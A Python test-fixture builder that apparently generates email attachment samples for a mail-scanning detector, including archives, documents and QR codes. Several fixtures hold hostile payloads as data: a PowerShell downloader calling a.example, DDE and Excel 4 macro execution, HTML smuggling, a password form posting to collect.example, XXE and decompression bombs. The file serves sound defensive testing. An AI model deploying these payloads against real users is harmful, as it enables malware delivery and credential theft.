"""Builds the files that samples attach, from short expressions: `zip(a.exe=exe, b.zip=zip(c.js=script))`.

Everything is made here, so that no file in the repository is one that a scanner would stop.
"""

import base64
import bz2
import gzip
import io
import itertools
import lzma
import struct
import tarfile
import zipfile
from collections.abc import Callable

import pikepdf
import py7zr

from tests.lockgate.detection import archive_writers

EICAR = "".join(("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!$H+H*"))
CRLF = b"\r\n"


def build(expression: str) -> bytes:
    """The bytes an expression describes."""
    name, _, rest = expression.partition("(")
    inside = rest[:-1] if rest.endswith(")") else ""
    if name in CONTAINERS:
        entries = [tuple(piece.strip() for piece in item.split("=", 1)) for item in _split(inside)]
        return CONTAINERS[name]([(entry[0], build(entry[1])) for entry in entries])
    if expression.startswith("hex "):
        return bytes.fromhex(expression[4:])
    if name == "qr":
        return _qr(inside)
    return FILES[name](inside)


def with_attachments(raw: bytes, attachments: list[tuple[str, str]]) -> bytes:
    """The message with these files attached; its own body becomes the first part."""
    if not attachments:
        return raw
    header, _, body = raw.partition(CRLF + CRLF)
    lines = [line for line in header.split(CRLF) if not line.lower().startswith(b"content-type:")]
    kind = next((line for line in header.split(CRLF) if line.lower().startswith(b"content-type:")), None)
    kind = kind or b"Content-Type: text/plain; charset=utf-8"
    pieces = [CRLF.join([*lines, b"MIME-Version: 1.0", b'Content-Type: multipart/mixed; boundary="sample"', b""])]
    pieces.append(CRLF.join([b"--sample", kind, b"Content-Transfer-Encoding: 8bit", b"", body]))
    for name, expression in attachments:
        declared = b"image/png" if name.endswith(".png") else b"application/octet-stream"
        head = [b"--sample", b"Content-Type: " + declared, b"Content-Transfer-Encoding: base64"]
        head.append(b"Content-Disposition: attachment; filename*=utf-8''" + _percent(name))
        pieces.append(CRLF.join([*head, b"", base64.encodebytes(build(expression)).replace(b"\n", CRLF)]))
    return CRLF.join([*pieces, b"--sample--", b""])


def _percent(name: str) -> bytes:
    kept = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789.-_"
    return b"".join(bytes([byte]) if byte in kept else b"%%%02X" % byte for byte in name.encode())


def _split(text: str) -> list[str]:
    """At commas outside of parentheses."""
    items, depth, start = [], 0, 0
    for place, letter in enumerate(text):
        depth += (letter == "(") - (letter == ")")
        if letter == "," and depth == 0:
            items.append(text[start:place])
            start = place + 1
    return [item for item in (*items, text[start:]) if item.strip()]


Entries = list[tuple[str, bytes]]


def _zip(entries: Entries, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return stream.getvalue()


def _deflate64_zip(entries: Entries) -> bytes:
    """A ZIP whose entries use method 9, as Windows makes of large files."""
    import inflate64

    made = bytearray(_zip(entries, zipfile.ZIP_STORED))
    with zipfile.ZipFile(io.BytesIO(bytes(made))) as archive:
        (item,) = archive.infolist()
    name, content = entries[0]
    deflater = inflate64.Deflater()
    packed = deflater.deflate(content) + deflater.flush()
    start = 30 + len(name)
    directory = made[start + len(content) :]
    local = made[:start]
    for header, offset in ((local, 8), (directory, 10)):
        header[offset : offset + 2] = b"\x09\x00"
        header[offset + 10 : offset + 14] = len(packed).to_bytes(4, "little")
    end = directory.rfind(b"PK\x05\x06")
    directory[end + 16 : end + 20] = (len(local) + len(packed)).to_bytes(4, "little")
    assert item.filename == name
    return bytes(local + packed + directory)


def secret_zip(entries: Entries, password: str, method: str = "aes256") -> bytes:
    """A ZIP with AES (or `zipcrypt`), written by libarchive."""
    import libarchive

    made = bytearray()

    def keep(data: bytes) -> int:
        made.extend(bytes(data))
        return len(data)

    with libarchive.custom_writer(keep, "zip", options=f"zip:encryption={method}", passphrase=password) as archive:
        for name, content in entries:
            archive.add_file_from_memory(name, len(content), content)
    return bytes(made)


def _pdf_with(entries: Entries) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    for name, content in entries:
        document.attachments[name] = content
    stream = io.BytesIO()
    document.save(stream, compress_streams=True)
    return stream.getvalue()


def _locked_zip(entries: Entries) -> bytes:
    """A ZIP whose entries say that they are encrypted (bit 0 of the general purpose flags, in both headers)."""
    data = bytearray(_zip(entries))
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(magic)
        while place >= 0:
            data[place + offset] |= 1
            place = data.find(magic, place + 4)
    return bytes(data)


def _tar(entries: Entries) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, content in entries:
            item = tarfile.TarInfo(name)
            item.size = len(content)
            archive.addfile(item, io.BytesIO(content))
    return stream.getvalue()


def _seven_zip(entries: Entries, password: str | None = None) -> bytes:
    stream = io.BytesIO()
    with py7zr.SevenZipFile(stream, "w", password=password) as archive:
        for name, content in entries:
            archive.writestr(content, name)
    return stream.getvalue()


def _docx(entries: Entries) -> bytes:
    types = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    document = b"<?xml version='1.0'?><w:document><w:body/></w:document>"
    given = dict(entries)
    return _zip([("[Content_Types].xml", types), ("word/document.xml", given.pop("word/document.xml", document)),
                 *given.items()])  # fmt: skip


def _pdf(action: str) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    if action.startswith("embed "):
        document.attachments[action.removeprefix("embed ")] = b"MZ" + b"\0" * 200
    elif action.startswith("uri "):
        entry = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String(action.removeprefix("uri ")))
        document.Root.OpenAction = document.make_indirect(entry)
    elif action:
        entry = pikepdf.Dictionary(S=pikepdf.Name("/" + action))
        document.Root.OpenAction = document.make_indirect(entry)
    stream = io.BytesIO()
    words = {"locked": "secret", "private": "Nobody-0-Knows"}
    password = pikepdf.Encryption(user=words[action], owner=words[action]) if action in words else None
    document.save(stream, encryption=password or False)
    return stream.getvalue()


def _qr(text: str) -> bytes:
    import segno

    stream = io.BytesIO()
    segno.make(text, error="m").save(stream, kind="png", scale=4, border=4)
    return stream.getvalue()


def _modules(text: str) -> list[list[bool]]:
    import segno

    return [[bool(module) for module in row] for row in segno.make(text, error="m").matrix_iter(border=0)]


def _qr_table(text: str) -> str:
    """Cells with a ground, equal neighbours of a row joined into one."""
    rows = []
    for row in _modules(text):
        runs = [(dark, len(list(group))) for dark, group in itertools.groupby(row)]
        cells = (f'<td colspan={n} style="background:{"#111" if dark else "#fff"}"></td>' for dark, n in runs)
        rows.append(f"<tr height=5>{''.join(cells)}</tr>")
    return f"<table cellspacing=0 cellpadding=0>{''.join(rows)}</table>"


def _qr_blocks(text: str) -> str:
    modules = _modules(text)
    below = [*modules[1:], [False] * len(modules)]
    signs = {(True, True): "\u2588", (True, False): "\u2580", (False, True): "\u2584", (False, False): " "}
    return "\n".join(
        "".join(signs[pair] for pair in zip(modules[at], below[at], strict=True)) for at in range(0, len(modules), 2)
    )


DRAWN: dict[str, Callable[[str], str]] = {"table": _qr_table, "blocks": _qr_blocks}


def _qr_page(text: str) -> bytes:
    """A page of A4 with a code of 38 mm on it."""
    from PIL import Image

    with Image.open(io.BytesIO(_qr(text))) as code:
        page = Image.new("L", (1240, 1754), 255)
        page.paste(code.convert("L").resize((225, 225)), (500, 900))
    stream = io.BytesIO()
    page.save(stream, "PDF", resolution=150)
    return stream.getvalue()


def _lnk(command: str) -> bytes:
    """A shortcut (MS-SHLLINK) to `target;arguments`, both as texts behind the header."""
    target, _, arguments = (command or "C:\\Windows\\System32\\powershell.exe;-w hidden -nop").partition(";")
    head = struct.pack("<I", 76) + b"\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"
    head += struct.pack("<I", 0x08 | 0x20 | 0x80)  # relative path, arguments, Unicode
    return head.ljust(76, b"\0") + b"".join(
        struct.pack("<H", len(text)) + text.encode("utf-16-le") for text in (target, arguments)
    )


SMUGGLER = (
    "<html><body><script>var d='" + "QUJD" * 500 + "';var b=new Blob([atob(d)]);"
    "var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='invoice.iso';a.click()"
    "</script></body></html>"
)
REMOTE_TEMPLATE = (
    '<?xml version="1.0"?><Relationships><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="http://templates.example/a.dotm" TargetMode="External"/></Relationships>'
)

DDE = "<w:document><w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc.exe&quot;</w:instrText></w:document>"
FEED = '<w:document><w:instrText> DDEAUTO Ticker Stocks "ACME" </w:instrText></w:document>'
DEPLOY = b"$files = Get-ChildItem *.csv\r\nforeach ($file in $files) { Import-Csv $file | Format-Table }\r\n"
FETCHER = (
    b"$c = New-Object Net.WebClient; $c.DownloadFile('http://a.example/b.exe', 'b.exe'); Start-Process b.exe -w hidden"
)

FILES: dict[str, Callable[[str], bytes]] = {
    "text": lambda text: text.encode(),
    "eicar": lambda _: EICAR.encode(),
    "exe": lambda _: b"MZ\x90\x00\x03" + b"\0" * 200 + b"PE\0\0" + b"\0" * 100,
    "script": lambda _: b"var shell = new ActiveXObject('WScript.Shell');\r\nshell.Run('calc');\r\n",
    "dropper": lambda _: (
        b"var s=new ActiveXObject('WScript.Shell');var x=new ActiveXObject('MSXML2.XMLHTTP');s.Run('a.exe');"
    ),
    "lnk": _lnk,
    "gif-script": lambda _: b"GIF89a" + b"\0" * 40 + b"<script>new ActiveXObject('WScript.Shell')</script>",
    "dde": lambda _: _docx([("word/document.xml", DDE.encode())]),
    "feed": lambda _: _docx([("word/document.xml", FEED.encode())]),
    "deploy": lambda _: DEPLOY,
    "fetcher": lambda _: FETCHER,
    "encoded": lambda _: b"powershell -enc " + base64.b64encode(FETCHER.decode().encode("utf-16-le")),
    "equation": lambda _: archive_writers.rtf([("", b"\x1c" * 200)], b"Equation.3"),
    "letter": lambda _: b"{\\rtf1\\ansi Dear Tom, the minutes are below.}",
    "laughs": lambda _: (
        b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
        + b"".join(b'<!ENTITY %c "%s">' % (98 + n, (b"&%c;" % (97 + n)) * 20) for n in range(10))
        + b"]><l>&k;</l>"
    ),
    "outside-entity": lambda _: b'<svg><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/hosts">]><text>&x;</text></svg>',
    "one-entity": lambda _: b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY firm "Contoso">]><l>&firm;</l>',
    "drawing": lambda _: b"<svg xmlns='http://www.w3.org/2000/svg'><circle r='9'/></svg>",
    "acting-drawing": lambda _: (
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>location='https://a.example'</script></svg>"
    ),
    "onenote": lambda _: b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + b"\0" * 100,
    "hta": lambda _: b"<html><hta:application id=x><script language=vbscript></script></html>",
    "png": lambda _: _qr("no link here, only words"),
    "picture": lambda _: b"\x89PNG\r\n\x1a\n" + b"\0" * 64,
    "pdf": _pdf,
    "qr-page": _qr_page,
    "smuggler": lambda _: SMUGGLER.encode(),
    "login": lambda _: (
        b"<html><body><form action='https://collect.example/p.php'><input type=password name=p></form></body></html>"
    ),
    "report": lambda _: b"<html><body><h1>Sales in March</h1><table><tr><td>12</td></tr></table></body></html>",
    "template": lambda _: _docx([("word/_rels/settings.xml.rels", REMOTE_TEMPLATE.encode())]),
    "slk": lambda _: b'ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;K0;EEXEC("calc.exe")\r\nE\r\n',
    "xlm": lambda _: _zip(
        [
            ("[Content_Types].xml", b"<Types/>"),
            ("xl/workbook.xml", b"<workbook><definedName name='_xlnm.Auto_Open'>Macro1!$A$1</definedName></workbook>"),
            ("xl/macrosheets/sheet1.xml", b"<macrosheet><c r='A1'><f>EXEC(&quot;calc.exe&quot;)</f></c></macrosheet>"),
        ]
    ),
    "xlsx": lambda _: _zip(
        [
            ("[Content_Types].xml", b"<Types/>"),
            ("xl/workbook.xml", b"<workbook/>"),
            ("xl/worksheets/sheet1.xml", b"<worksheet><c r='A1'><v>1</v></c></worksheet>"),
        ]
    ),
    "rar": lambda _: b"Rar!\x1a\x07\x01\x00" + b"\0" * 60,
    "chm": lambda _: b"ITSF\x03\0\0\0" + b"\0" * 60,
    "blank-bomb": lambda _: _docx([("word/document.xml", b" " * 120_000_000)]),
    "bomb": lambda _: _zip([("zeros.bin", b"\0" * 60_000_000)]),
}
CONTAINERS: dict[str, Callable[[Entries], bytes]] = {
    "iso": archive_writers.iso,
    "udf": archive_writers.udf,
    "cab": archive_writers.cab,
    "lzh": archive_writers.lzh,
    "arj": archive_writers.arj,
    "ace": archive_writers.ace,
    "rar4": archive_writers.rar4,
    "rar5": archive_writers.rar5,
    "locked-rar5": lambda entries: archive_writers.rar5(entries, "Winter-77"),
    "cpio": archive_writers.by_libarchive("cpio_newc"),
    "xar": archive_writers.by_libarchive("xar"),
    "ar": archive_writers.by_libarchive("ar_svr4"),
    "zst": archive_writers.by_libarchive("raw", "zstd"),
    "lz4": archive_writers.by_libarchive("raw", "lz4"),
    "Z": archive_writers.by_libarchive("raw", "compress"),
    "lz": archive_writers.by_libarchive("raw", "lzip"),
    "uu": archive_writers.by_libarchive("raw", "uuencode"),
    "lzma": lambda entries: lzma.compress(entries[0][1], lzma.FORMAT_ALONE),
    "fat": archive_writers.fat12,
    "disk": archive_writers.partitioned,
    "vhd": archive_writers.vhd,
    "dynamic-vhd": archive_writers.dynamic_vhd,
    "vhdx": archive_writers.vhdx,
    "tnef": archive_writers.tnef,
    "eml": archive_writers.saved_message,
    "msg": archive_writers.outlook_message,
    "ole": archive_writers.ole_package,
    "one": archive_writers.onenote,
    "rtf": archive_writers.rtf,
    "office-xml": archive_writers.office_xml,
    "pdf-with": _pdf_with,
    "sfx": lambda entries: b"MZ" + b"\x90" * 200 + _zip(entries),
    "gif-zip": lambda entries: b"GIF89a" + b"\0" * 64 + b"\x3b" + _zip(entries),
    "gif-rar": lambda entries: b"GIF89a" + b"\0" * 64 + b"\x3b" + archive_writers.rar5(entries),
    "two-zips": lambda entries: _zip(entries) + _zip([("harmless.txt", b"nothing here")]),
    "deflate64": _deflate64_zip,
    "bzip2-zip": lambda entries: _zip(entries, zipfile.ZIP_BZIP2),
    "lzma-zip": lambda entries: _zip(entries, zipfile.ZIP_LZMA),
    "secret-zip": lambda entries: secret_zip(entries, "Winter-77"),
    "zip": _zip,
    "locked-zip": _locked_zip,
    "tar": _tar,
    "7z": _seven_zip,
    "7z-with-1234": lambda entries: _seven_zip(entries, "1234"),
    "locked-7z": lambda entries: _seven_zip(entries, "Nobody-0-Knows"),
    "docx": _docx,
    "gz": lambda entries: gzip.compress(entries[0][1]),
    "bz2": lambda entries: bz2.compress(entries[0][1]),
    "xz": lambda entries: lzma.compress(entries[0][1]),
}
